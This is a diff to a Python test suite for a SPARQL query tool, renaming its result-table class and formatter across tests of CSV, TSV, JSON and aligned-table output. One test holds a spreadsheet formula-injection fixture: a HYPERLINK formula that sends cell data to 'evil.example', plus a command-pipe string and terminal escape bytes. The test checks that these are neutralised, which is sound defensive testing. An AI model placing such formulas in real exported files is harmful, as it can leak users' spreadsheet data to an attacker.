@@ -8,7 +8,7 @@ import pytest
 import rdflib
 
 from recgraph.sparql import (
-    ENGINES, QueryError, Table, format_table, list_queries, load_graph, load_query, parse_header,
+    ENGINES, QueryError, Answers, format_answers, list_queries, load_graph, load_query, parse_header,
     parse_value, resolve_params, run_query,
 )
 
@@ -138,17 +138,17 @@ def test_parse_header_and_params():
 
 
 def test_formats():
-    t = Table(("plan", "n", "ok", "note"), (("5G, 專網", Decimal("1.5"), True, None), ('說"明"', 2, False, "a\tb\nc")))
-    assert format_table(t, "csv") == 'plan,n,ok,note\r\n"5G, 專網",1.5,true,\r\n"說""明""",2,false,"a\tb\nc"\r\n'
-    assert format_table(t, "tsv") == "plan\tn\tok\tnote\n5G, 專網\t1.5\ttrue\t\n說\"明\"\t2\tfalse\ta\\tb\\nc\n"
-    assert json.loads(format_table(t, "json")) == [
+    t = Answers(("plan", "n", "ok", "note"), (("5G, 專網", Decimal("1.5"), True, None), ('說"明"', 2, False, "a\tb\nc")))
+    assert format_answers(t, "csv") == 'plan,n,ok,note\r\n"5G, 專網",1.5,true,\r\n"說""明""",2,false,"a\tb\nc"\r\n'
+    assert format_answers(t, "tsv") == "plan\tn\tok\tnote\n5G, 專網\t1.5\ttrue\t\n說\"明\"\t2\tfalse\ta\\tb\\nc\n"
+    assert json.loads(format_answers(t, "json")) == [
         {"plan": "5G, 專網", "n": 1.5, "ok": True, "note": None},
         {"plan": '說"明"', "n": 2, "ok": False, "note": "a\tb\nc"}]
-    lines = format_table(t, "table").splitlines()
+    lines = format_answers(t, "table").splitlines()
     assert lines[0] == "plan     | n   | ok    | note"
     assert lines[-1] == "(2 rows)"
     with pytest.raises(ValueError):
-        format_table(t, "xml")
+        format_answers(t, "xml")
 
 
 def test_no_library_query_tests_a_parameter_with_bound():
@@ -161,26 +161,26 @@ def test_no_library_query_tests_a_parameter_with_bound():
 
 
 def test_csv_and_tsv_neutralise_formulas_and_control_characters():
-    t = Table(("plan", "note"), (('=HYPERLINK("http://evil.example/?"&A1,"click")AI計畫', "@SUM(1+1)*cmd|x\x00\x1b[31m"),
+    t = Answers(("plan", "note"), (('=HYPERLINK("http://evil.example/?"&A1,"click")AI計畫', "@SUM(1+1)*cmd|x\x00\x1b[31m"),
                                  ("-1.5", "+886")))
-    assert format_table(t, "csv").splitlines()[1:] == [
+    assert format_answers(t, "csv").splitlines()[1:] == [
         '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")AI計畫",\'@SUM(1+1)*cmd|x[31m', "-1.5,+886"]
-    assert format_table(t, "tsv").splitlines()[1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")AI計畫\t'@SUM(1+1)*cmd|x[31m"
-    assert "\x1b" not in format_table(t, "table") and "\x00" not in format_table(t, "table")
+    assert format_answers(t, "tsv").splitlines()[1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")AI計畫\t'@SUM(1+1)*cmd|x[31m"
+    assert "\x1b" not in format_answers(t, "table") and "\x00" not in format_answers(t, "table")
 
 
 def test_table_aligns_by_display_width():
-    t = Table(("plan", "n"), (("數位發展部資訊處", 1), ("AI", 22), ("e\u0301", 3)))
-    lines = format_table(t).splitlines()
+    t = Answers(("plan", "n"), (("數位發展部資訊處", 1), ("AI", 22), ("e\u0301", 3)))
+    lines = format_answers(t).splitlines()
     assert lines[:2] == ["plan             | n", "-----------------+---"]
     assert lines[2:5] == ["數位發展部資訊處 | 1", "AI               | 22", "e\u0301                | 3"]
 
 
 def test_table_prints_plain_values_json_keeps_types(engine):
     t = run_query(engine, RG + "SELECT ?serial ?trunc { ?e rg:serial ?serial ; rg:truncated ?trunc } ORDER BY ?serial")
-    assert format_table(t).splitlines()[2] == "1      | false"
-    assert format_table(t, "csv").splitlines()[1] == "1,false"
-    assert json.loads(format_table(t, "json"))[0] == {"serial": 1, "trunc": False}
+    assert format_answers(t).splitlines()[2] == "1      | false"
+    assert format_answers(t, "csv").splitlines()[1] == "1,false"
+    assert json.loads(format_answers(t, "json"))[0] == {"serial": 1, "trunc": False}
 
 
 @pytest.mark.parametrize("query", [
